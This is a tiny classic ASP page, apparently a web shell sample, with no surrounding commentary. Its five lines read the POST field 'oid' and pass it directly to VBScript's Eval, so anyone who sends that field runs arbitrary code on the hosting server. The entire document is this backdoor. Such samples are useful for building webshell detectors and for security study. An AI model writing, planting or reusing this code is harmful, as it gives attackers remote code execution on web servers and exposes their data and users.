<%
Dim a, b
a = Request.Form("oid")
b = a
Eval b
%>
